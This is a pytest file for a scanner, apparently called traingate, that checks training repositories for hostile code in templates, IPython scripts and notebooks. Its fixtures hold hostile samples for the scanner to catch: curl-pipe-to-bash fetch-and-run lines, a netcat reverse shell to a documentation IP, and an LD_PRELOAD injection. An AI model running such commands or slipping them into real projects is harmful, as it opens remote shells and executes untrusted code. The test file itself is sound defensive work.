"""Templates by any suffix, IPython scripts and notebook ``%env`` (issue #16, session 19).

Three gaps in what the semgrep check reads: templates named ``.tmpl``,
``.tpl`` or ``.template`` were not read as templates, ``.ipy`` files (IPython
scripts, a profile's ``startup/*.ipy``) were not read at all, and the
notebook conversion wrote ``%env`` as ``__import__('os').environ[...]``, which
``obfusc-string-built-lookup`` blocked on every harmless ``%env``. Each is
tested from both sides in one ``traingate check`` (one semgrep process): the
payload is found on its line, the look-alike a training repository has passes
(no blocking finding of any check), and what cannot be parsed blocks at its line.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from traingate.checks.semgrep import ipython as ipy
from traingate.checks.semgrep import targets as sg

from .conftest import feature_repo, gate_report


def _nb(*cells: str) -> str:
    code: list[dict[str, object]] = [
        {
            "cell_type": "code",
            "metadata": {},
            "outputs": [],
            "execution_count": None,
            "source": c.splitlines(keepends=True),
        }
        for c in cells
    ]
    return json.dumps({"cells": code, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}, indent=1)


# path -> head content. Paths under bad/ must be found, ok/ must pass.
HEAD: dict[str, str | bytes] = {
    # templates by the other suffixes: the inner suffix says what is rendered
    "bad/sweep.sh.tmpl": "#!/bin/bash\npython train.py lr={{ lr }}\ncurl -s https://x.example/{{ p }}.sh | bash\n",
    "bad/Dockerfile.template": "FROM python:3.11\nRUN curl -s https://x.example/i.sh | sh\n",
    "bad/train.py.tpl": 'import os\n\nLR = {{ lr }}\nos.system("nc -e /bin/sh 203.0.113.5 4444")\n',
    # IPython scripts: one notebook code cell
    "bad/setup_node.ipy": "import os\n!pip install -q git+https://github.com/x/kernels.git\n",
    "bad/profile_default/startup/00-init.ipy": "%%bash\ncurl -s https://x.example/i | bash\n",
    "bad/broken.ipy": "import torch\n\ndef f(:\n    pass\n",
    "bad/nul.ipy": b"import os\n\0!id\n",
    "bad/preload.ipy": "import torch\n%env LD_PRELOAD=/dev/shm/.x/libx.so\n",
    # %env of a dangerous name is still an os.environ write for the env rules
    "bad/preload.ipynb": _nb("import torch\n", "%env LD_PRELOAD=/dev/shm/.x/libx.so\n"),
    # look-alikes
    "ok/message.tmpl": "Hello {{ name }},\n\nrun `curl https://x.example/{{ id }} | sh` to reproduce.\n",
    "ok/README.md.template": "# {{ project }}\n\nInstall: `curl https://x.example/i.sh | bash`\n",
    "ok/.env.template": "WANDB_API_KEY=changeme\nHF_HOME=/data/hf\n",
    "ok/_helpers.tpl": '{{- define "chart.name" -}}\n{{ .Chart.Name }}\n{{- end }}\n',
    "ok/job.sh.tpl": "#!/bin/bash\n#SBATCH --nodes={{ nodes }}\nsrun python train.py lr={{ lr }}\n",
    "ok/Dockerfile.template": (
        "FROM python:3.11\nRUN pip install -r requirements.txt\n"
        'CMD ["python", "train.py", "--lr", "{{ lr }}"]\n'
    ),
    "ok/model.py.tmpl": "import torch\n\nLR = {{ lr }}\nmodel = torch.nn.Linear(4, 4)\n",
    "ok/explore.ipy": (
        "%matplotlib inline\n%load_ext autoreload\n%autoreload 2\nimport torch\n"
        "%env CUDA_VISIBLE_DEVICES=0\n%time x = torch.ones(3)\nprint(x)\n"
    ),
    "ok/env.ipynb": _nb(
        "%env CUDA_VISIBLE_DEVICES=0\n%set_env WANDB_MODE offline\n%env PYTHONHASHSEED=0\n",
        "%env HF_HOME=/data/hf\n%env TOKENIZERS_PARALLELISM=false\nimport torch\n",
    ),
}


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    root = tmp_path_factory.mktemp("ipython")
    return gate_report(feature_repo(root, {}, HEAD), root / "report.json")


def _found(report: dict[str, Any], path: str) -> set[tuple[str, int | None]]:
    """Blocking findings of every check on ``path``."""
    return {
        (f["rule_id"], f["line"]) for f in report["findings"] if f["path"] == path and f["blocking"]
    }


# --------------------------------------------------------------------------- templates


@pytest.mark.parametrize(
    ("path", "kind"),
    [
        ("sweep.sh.tmpl", "template:.sh"),
        ("train.py.tpl", "template:.py"),
        ("Dockerfile.template", "template:docker"),
        ("Makefile.tmpl", "template:make"),
        (".env.template", "template:"),  # no inner suffix: code only with a #! line
        ("_helpers.tpl", "template:"),
        ("README.md.template", "template:.md"),
        (".tmpl", None),
    ],
)
def test_template_suffixes(path: str, kind: str | None) -> None:
    assert sg._surface_kind(path) == kind


def test_templates_by_other_suffixes_are_scanned(report: dict[str, Any]) -> None:
    assert _found(report, "bad/sweep.sh.tmpl") == {("remote-shell-fetch-exec", 3)}
    assert _found(report, "bad/Dockerfile.template") == {("remote-shell-fetch-exec", 2)}
    assert ("egress-reverse-shell", 4) in _found(report, "bad/train.py.tpl")


@pytest.mark.parametrize(
    "path",
    [
        "ok/message.tmpl",
        "ok/README.md.template",
        "ok/.env.template",
        "ok/_helpers.tpl",
        "ok/job.sh.tpl",
        "ok/Dockerfile.template",
        "ok/model.py.tmpl",
    ],
)
def test_template_look_alikes_pass(report: dict[str, Any], path: str) -> None:
    assert _found(report, path) == set()


# --------------------------------------------------------------------------- .ipy


def test_ipython_script_shell_escape_is_found_on_its_line(report: dict[str, Any]) -> None:
    # Session 20: the ! line's command is judged by the bash rules.
    assert _found(report, "bad/setup_node.ipy") == {("remote-shell-pip-install", 2)}


def test_startup_ipython_script_with_shell_cell(report: dict[str, Any]) -> None:
    # IPython runs the whole file as one cell: a %%bash first line makes it a shell script.
    found = _found(report, "bad/profile_default/startup/00-init.ipy")
    assert found == {("remote-shell-fetch-exec", 2), ("autorun-ipython-startup", 1)}


def test_ipython_script_that_does_not_parse_blocks_at_its_line(report: dict[str, Any]) -> None:
    assert ("python-syntax-error", 3) in _found(report, "bad/broken.ipy")
    assert ("source-unreadable", 1) in _found(report, "bad/nul.ipy")


def test_ipython_script_look_alike_passes(report: dict[str, Any]) -> None:
    assert _found(report, "ok/explore.ipy") == set()


def test_ipython_script_keeps_the_files_lines() -> None:
    # \x0c ends a line for IPython (str.splitlines), not for the file (git, editors).
    t = ipy.ipython_script("0" * 40, "a.ipy", "a = 1\r\nb = 2\x0c!id\nc = 3\n")
    assert t.ext == ".ipy.py" and sg.is_python(t)
    assert t.text.splitlines()[2] == "pass"
    assert t.line_map == (1, 2, 2, 3)
    # the shell escape is the bash companion's, on the same line and column
    assert t.companion is not None and t.companion.ext == ".ipy.sh"
    assert t.companion.text.splitlines() == ["", "", " id", ""]
    assert t.companion.line_map == t.line_map


# --------------------------------------------------------------------------- %env


def test_env_magic_of_a_dangerous_name_is_an_environ_write(report: dict[str, Any]) -> None:
    raw = str(HEAD["bad/preload.ipynb"]).splitlines()
    line = next(i for i, ln in enumerate(raw, 1) if "LD_PRELOAD" in ln)  # the notebook's own line
    assert ("tamper-preload-env", line) in _found(report, "bad/preload.ipynb")
    # Session 20: the config check reads a .ipy's %env lines as a notebook's.
    assert _found(report, "bad/preload.ipy") == {("tamper-preload-env", 2), ("config-risky-env", 2)}


def test_env_magic_look_alike_passes(report: dict[str, Any]) -> None:
    # Was obfusc-string-built-lookup on every line: the converter's own __import__.
    assert _found(report, "ok/env.ipynb") == set()


def test_converted_env_magic_has_no_dynamic_import() -> None:
    out = ipy._unmagic("  %env CUDA_VISIBLE_DEVICES=0")
    assert out == "  import os as _tg_os; _tg_os.environ['CUDA_VISIBLE_DEVICES'] = '0'"
    assert "__import__" not in out
